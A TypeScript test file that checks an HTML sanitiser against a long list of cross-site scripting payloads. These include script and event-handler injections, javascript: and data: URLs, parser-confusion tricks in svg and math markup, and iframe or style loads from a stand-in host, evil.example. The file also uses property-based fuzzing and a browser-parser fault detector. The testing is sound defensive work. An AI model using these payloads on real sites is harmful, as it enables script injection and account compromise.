/**
 * What attackers write, read back by an HTML5 parser: whatever the sanitiser leaves, a browser must find nothing in it
 * that runs, frames, posts or fetches from where it may not.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitiseEmbed, sanitiseInline, sanitiseRawHtml, sanitiseText } from './index.ts';

const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script src=//evil.example/x.js',
  '<script/x>alert(1)</script/x>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<\0script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x oNeRrOr=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x`" `onerror=alert(1)>',
  '<img src=`x` onerror=`alert(1)`>',
  '<img src="/x"onerror="alert(1)">',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="javascript:alert(1) 1x, https://evil.example/x 2x" src="/x.jpg">',
  '<img src="/\\evil.example/x.jpg">',
  '<img src="http://evil.example/x.jpg">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javascript\u00a0:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://x.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="https://ok.example" ping="https://evil.example" target="_top" onclick=alert(1)>x</a>',
  '<a id="googletag" name="powaBoot" href="/x">x</a>',
  '<img id=main-nav name=cookie src=/x.jpg>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="text-align:center;-moz-binding:url(//evil.example/x.xml#a)">x</p>',
  '<p style="text-align:center/*;*/;position:fixed;top:0">x</p>',
  '<p style="text-align:cen\\74er;behavior:url(x)">x</p>',
  '<p style="font-weight:bold;font-family:x&quot;;background:url(//evil.example)">x</p>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style><style/><img src=x onerror=alert(1)>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a>x</a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg><desc><noscript><img title="</noscript><img src onerror=alert(1)>"></noscript></desc></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<title></title/><img src=x onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<option><script>alert(1)</script></option>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com\\@evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
  '<iframe src="https://www.youtube.com:8443/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>" onload=alert(1) name=x></iframe>',
  '<iframe src="https://www.youtube.com/embed/x&quot;><script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/" title="</a><script>alert(1)</script>"></iframe>',
  '<iframe><script>alert(1)</script>',
  '<iframe data-frame="0"></iframe><iframe src="//evil.example">',
  '&lt;iframe data-frame="0"&gt;&lt;/iframe&gt;<iframe src="https://www.youtube.com/embed/x"></iframe>',
  '<figure class="bs-embed" data-embed-src="javascript:alert(1)" data-embed-host="www.youtube.com">x</figure>',
  '<figure class="bs-embed" data-embed-src="https://evil.example/embed/x">x</figure>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/html" data="//evil.example"><p>x</p></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<video><source onerror="alert(1)" src="javascript:alert(1)"></video>',
  '<video poster="javascript:alert(1)" src="/x.webm"></video>',
  '<audio src="//evil.example\\x" onloadstart=alert(1)>',
  '<track src="data:text/vtt,x" default>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)>x</body>',
  '<html><head><script>alert(1)</script></head></html>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<table><script>alert(1)</script><tr><td><svg onload=alert(1)></td></tr></table>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<p slot=x is=evil-element contenteditable popover popovertarget=x tabindex=1>x</p>',
  '<evil-element onclick=alert(1)>x</evil-element>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<p title="</p><img src=x onerror=alert(1)>">x</p>',
  '<b title="x',
  '<a href="https://x.example',
  '</p></div></body></html><img src=x onerror=alert(1)>',
  '<b constructor=x __proto__=y hasownproperty=z toString=1>x</b>',
  '<constructor>x</constructor><__proto__>y</__proto__>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '\ud800<img src=x onerror=alert(1)>\udfff',
  '<img src=x\u0000 onerror\u0000=alert(1)>',
  '<a\u000chref="javascript:alert(1)"\u000b>x</a>',
];

const FORBIDDEN =
  'script,style,object,embed,applet,base,meta,link,svg,math,form,input,button,select,option,textarea,template,noscript,' +
  'iframe,frame,frameset,portal,dialog,slot,marquee,title,xmp,plaintext,area,map,picture';
const ATTRIBUTES =
  /^(?:abbr|alt|aria-[a-z]+|cite|class|colspan|controls|data-[a-z-]+|datetime|decoding|default|dir|headers|height|high|href|hreflang|id|kind|label|lang|loading|loop|low|max|min|muted|open|optimum|playsinline|poster|preload|rel|reversed|role|rowspan|scope|span|src|srclang|start|style|target|title|type|value|width)$/;
const FRAMES = /^https:\/\/(?:www\.youtube-nocookie\.com\/embed\/|player\.vimeo\.com\/video\/)/;
const STYLE = /^(?:[a-z-]+\s*:\s*[a-z\d.%/ -]+;?\s*)+$/i;

function addressFault(element: Element, name: string, value: string): string[] {
  const media = name !== 'href' && name !== 'cite';
  const allowed = media ? /^https:$/ : /^(?:https?|mailto|tel):$/;
  const url = new URL(value, 'https://paper.example/story/');
  if (!allowed.test(url.protocol)) return [`${element.localName}[${name}=${value}]`];
  const elsewhere = value.startsWith('/') && url.host !== 'paper.example';
  return elsewhere ? [`${element.localName}[${name}=${value}] leaves the site`] : [];
}

function attributeFaults(element: Element): string[] {
  return Array.from(element.attributes).flatMap(({ name, value }) => {
    if (!ATTRIBUTES.test(name)) return [`${element.localName}[${name}]`];
    if (name === 'style' && !STYLE.test(value)) return [`style ${value}`];
    if (name === 'id' && !value.includes('-')) return [`id ${value}`];
    if (name === 'data-embed-src' && !FRAMES.test(value)) return [`frame ${value}`];
    return ['href', 'src', 'cite', 'poster'].includes(name) ? addressFault(element, name, value) : [];
  });
}

/** Everything a browser would find in the markup that must not be there. */
function faults(html: string): string[] {
  const page = document.implementation.createHTMLDocument('');
  page.body.innerHTML = html;
  return Array.from(page.body.querySelectorAll('*')).flatMap((element) => [
    ...(element.matches(FORBIDDEN) ? [`<${element.localName}>`] : []),
    ...(element.namespaceURI === 'http://www.w3.org/1999/xhtml'
      ? []
      : [`${element.namespaceURI} ${element.localName}`]),
    ...attributeFaults(element),
  ]);
}

const KINDS = [
  ['sanitiseText', sanitiseText],
  ['sanitiseInline', (html: string) => sanitiseInline(html)],
  ['sanitiseInline with links', (html: string) => sanitiseInline(html, { links: true })],
  ['sanitiseRawHtml', (html: string) => sanitiseRawHtml(html)],
  ['sanitiseEmbed', (html: string) => sanitiseEmbed(html)],
] as const;

const TOKENS = [
  ...[
    '<',
    '>',
    '</',
    '/>',
    '"',
    "'",
    '=',
    ' ',
    '&',
    ';',
    '&lt;',
    '&#60;',
    '\0',
    '<!--',
    '-->',
    '\n',
    'x',
    '`',
    '\u00a0',
  ],
  ...[
    '<p>',
    '</p>',
    '<b>',
    '</b>',
    '<a href="',
    '<a href=/x>',
    '</a>',
    '<table>',
    '<tr>',
    '<td>',
    '</table>',
    '<ul>',
    '<li>',
  ],
  ...[
    '<svg>',
    '</svg>',
    '<math>',
    '<mtext>',
    '<mglyph>',
    '<style>',
    '</style>',
    '<title>',
    '</title>',
    '<noscript>',
  ],
  ...[
    '</noscript>',
    '<template>',
    '<select>',
    '<option>',
    '<button>',
    '</button>',
    '<textarea>',
    '</textarea/>',
    '<form>',
  ],
  ...[
    '<script>',
    '</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="/x.jpg" alt="',
    ' onclick=alert(1) ',
    '<br/>',
  ],
  ...[
    '<iframe src="https://www.youtube.com/embed/abc">',
    '<iframe src="//evil.example">',
    '</iframe>',
    '<h2>',
    '</h2>',
  ],
  ...[
    '<figure class="bs-embed" data-embed-src="',
    'https://www.youtube.com/embed/abc"',
    'javascript:',
    'data:text/html,',
  ],
  ...[
    '<details>',
    '<summary>',
    '<dl>',
    '<dd>',
    '<div id="a-b" style="',
    'width:1px',
    ';',
    '<span title="',
    '</span>',
    '<xmp>',
  ],
];
const soup = fc.array(fc.constantFrom(...TOKENS), { maxLength: 24 }).map((parts) => parts.join(''));
const anything = fc.oneof(
  soup,
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.tuple(soup, fc.string()).map((two) => two.join('')),
);

describe.each(KINDS)('%s', (_name, sanitise) => {
  it.each(ATTACKS)('leaves nothing that acts of %j', (attack) => {
    const clean = sanitise(attack);
    expect(faults(clean)).toEqual([]);
    expect(faults(`<p>${clean}`)).toEqual([]);
    expect(faults(`<table><tr><td title="x">${clean}`)).toEqual([]);
    expect(sanitise(clean)).toBe(clean);
  });

  it('leaves nothing that acts of any string, and holds still when run again', () => {
    fc.assert(
      fc.property(anything, (html) => {
        const clean = sanitise(html);
        expect(faults(clean)).toEqual([]);
        expect(sanitise(clean)).toBe(clean);
      }),
      { numRuns: 400 },
    );
  });
});

describe('the reading back', () => {
  it('finds the fault in most of the attacks as they are', () => {
    const caught = ATTACKS.filter((attack) => faults(attack).length > 0);
    expect(caught.length).toBeGreaterThan(100);
  });
});

describe('a source with more open tags than a browser nests', () => {
  it('comes back empty', () => {
    expect(sanitiseRawHtml('<b>'.repeat(5_000))).toBe('');
    expect(sanitiseText('<svg>'.repeat(5_000))).toBe('');
  });
});
